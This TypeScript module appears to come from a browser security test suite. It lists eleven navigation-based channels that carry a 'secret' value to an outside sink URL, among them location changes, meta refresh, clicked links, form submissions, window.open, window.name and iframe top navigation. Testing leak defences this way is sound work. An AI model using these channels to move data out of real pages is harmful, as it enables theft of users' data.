import type { Channels } from './requests';

/** Ways that take the page elsewhere or open another; each is tried in a page of its own. */
export const LEAVING: Channels = {
  location: (sink) => {
    location.href = `${sink}/?secret`;
  },
  'location.replace': (sink) => location.replace(`${sink}/?secret`),
  'meta refresh': (sink) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${sink}/?secret`;
    document.head.append(meta);
  },
  'link that is clicked': (sink) => {
    const link = document.createElement('a');
    link.href = `${sink}/?secret`;
    document.body.append(link);
    link.click();
  },
  'form in the page': (sink) => {
    const form = document.createElement('form');
    form.action = `${sink}/?secret`;
    document.body.append(form);
    form.submit();
  },
  'form into a new window': (sink) => {
    const form = Object.assign(document.createElement('form'), { target: '_blank' });
    form.action = `${sink}/?secret`;
    document.body.append(form);
    form.submit();
  },
  'window.name, carried along': (sink) => {
    window.name = 'secret';
    location.assign(sink);
  },
  'window.open': (sink) => window.open(`${sink}/?secret`),
  'link into a new window': (sink) => {
    const link = Object.assign(document.createElement('a'), { target: '_blank' });
    link.href = `${sink}/?secret`;
    document.body.append(link);
    link.click();
  },
  'window.open of a fresh frame': (sink) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.contentWindow?.open(`${sink}/?secret`);
  },
  'top of a fresh frame': (sink) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    const top = frame.contentWindow?.top;
    if (top) top.location.href = `${sink}/?secret`;
  },
};
